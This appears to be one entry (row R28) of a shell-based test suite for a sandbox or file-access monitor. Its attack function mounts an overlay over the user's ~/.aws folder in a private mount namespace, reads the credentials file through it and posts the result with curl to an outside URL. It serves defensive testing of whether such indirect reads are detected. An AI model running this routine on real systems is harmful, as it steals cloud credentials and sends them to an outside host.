# SPDX-License-Identifier: Apache-2.0
COVERAGE=full WHY="the overlay's own inode is opened, the real one only inside the kernel"
TITLE="an overlay over the secret's folder, as a container engine makes it"
ROW="R28"
attack() {
	mkdir -p empty seen
	unshare --mount --propagation private sh -c '
		mount -t overlay -o "lowerdir=$HOME/.aws:empty" overlay seen || exit 1
		cat seen/credentials' >loot
	curl -s -m 5 --data-binary @loot "$URL/"
}
